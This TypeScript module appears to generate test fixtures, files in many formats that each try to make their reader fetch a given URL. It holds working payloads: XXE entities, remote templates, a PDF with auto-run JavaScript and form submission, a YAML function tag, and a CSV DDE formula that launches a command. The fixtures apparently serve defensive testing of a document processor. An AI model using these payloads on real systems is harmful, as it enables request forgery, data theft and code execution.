import { officeFile, officeFormats, paragraphIn } from './office-files.ts';

export type NamedFile = { readonly name: string; readonly bytes: Uint8Array };

const relationship = (type: string, url: string): Uint8Array =>
  Buffer.from(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${url}" TargetMode="External"/></Relationships>`,
  );
const picture =
  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="r9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';

/** Files of every kind that ask their reader to fetch `url`: entities, pictures, templates, frames, actions (R49). */
export function externalFiles(url: string): NamedFile[] {
  const doctype = `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}"><!ENTITY % d SYSTEM "${url}"> %d;]>`;
  const page = `<link rel="stylesheet" href="${url}"><base href="${url}"><script src="${url}"></script><img src="${url}" srcset="${url} 2x"><iframe src="${url}"></iframe><object data="${url}"></object><p>Bonjour`;
  const texts: Readonly<Record<string, string>> = {
    'image.svg': `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/><text>&e;</text></svg>`,
    'page.html': `<!DOCTYPE html>${page}`,
    'page.xhtml': `<?xml version="1.0"?>${doctype}<html><body><p>&e;</p></body></html>`,
    'entity.xml': `<?xml version="1.0"?>${doctype}<?xml-stylesheet href="${url}"?><note xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${url}" parse="text"/>&e;</note>`,
    'image.md': `![](${url})\n\n<img src="${url}">\n\nBonjour`,
    'mail.eml': `From: a@b.c\nSubject: x\nContent-Type: message/external-body; access-type=URL; URL="${url}"\n\nContent-Type: text/plain\n\n<img src="${url}">\n`,
    'mail-html.eml': `From: a@b.c\nSubject: x\nContent-Type: text/html\n\n${page}\n`,
    'page.mhtml': `From: <x>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\nContent-Location: ${url}\n\n${page}\n--b--\n`,
    'template.rtf': `{\\rtf1\\ansi{\\*\\template ${url}}{\\field{\\*\\fldinst INCLUDETEXT "${url}"}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}"}} Bonjour}`,
    'event.ics': `BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:1\nDTSTART:20240101T000000Z\nSUMMARY:x\nATTACH:${url}\nURL:${url}\nEND:VEVENT\nEND:VCALENDAR`,
    'card.vcf': `BEGIN:VCARD\nVERSION:3.0\nFN:Ana\nPHOTO;VALUE=uri:${url}\nEND:VCARD`,
    'tag.yaml': `a: !!js/function 'fetch("${url}")'\nb: !include ${url}\n`,
    'formula.csv': `=WEBSERVICE("${url}");=cmd|'/c calc'!A1\nx;y\n`,
    'style.vtt': `WEBVTT\n\nSTYLE\n@import url(${url});\n\n00:00.000 --> 00:01.000\nBonjour\n`,
  };
  return [
    ...officeFormats.map((format) => ({
      name: `entity.${format}`,
      bytes: officeFile(format, paragraphIn[format]('&e;'), { doctype }),
    })),
    {
      name: 'image.docx',
      bytes: officeFile('docx', picture, {
        parts: { 'word/_rels/document.xml.rels': relationship('image', url) },
      }),
    },
    {
      name: 'template.docx',
      bytes: officeFile('docx', paragraphIn.docx('Bonjour'), {
        parts: {
          'word/settings.xml':
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r9"/></w:settings>',
          'word/_rels/settings.xml.rels': relationship('attachedTemplate', url),
        },
      }),
    },
    {
      name: 'query.xlsx',
      bytes: officeFile('xlsx', `<row r="1"><c r="A1"><f>WEBSERVICE("${url}")</f><v>1</v></c></row>`, {
        parts: { 'xl/externalLinks/_rels/externalLink1.xml.rels': relationship('externalLinkPath', url) },
      }),
    },
    {
      name: 'film.pptx',
      bytes: officeFile('pptx', paragraphIn.pptx('Bonjour'), {
        parts: { 'ppt/slides/_rels/slide1.xml.rels': relationship('video', url) },
      }),
    },
    ...(['odt', 'odp'] as const).map((format) => ({
      name: `image.${format}`,
      bytes: officeFile(
        format,
        `${paragraphIn[format]('Bonjour')}<draw:frame><draw:image xlink:href="${url}"/></draw:frame><text:section><text:section-source xlink:href="${url}"/></text:section>`,
      ),
    })),
    {
      name: 'image.epub',
      bytes: officeFile('epub', `<img src="${url}"/><iframe src="${url}"></iframe><p>Bonjour</p>`),
    },
    { name: 'action.pdf', bytes: pdfWithActions(url) },
    ...Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })),
  ];
}

/** A one-page PDF that opens a URL, submits a form and runs JavaScript when it is opened. */
export function pdfWithActions(url: string): Uint8Array {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${url}"\\))/Next<</S/URI/URI(${url})>>>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O<</S/SubmitForm/F(${url})>>>>>>`,
    '<</Length 41>>stream\nBT /F1 12 Tf 20 200 Td (Bonjour) Tj ET     \nendstream',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
  return Buffer.from(`%PDF-1.4\n${body}trailer<</Root 1 0 R/Size 6>>\n%%EOF`);
}
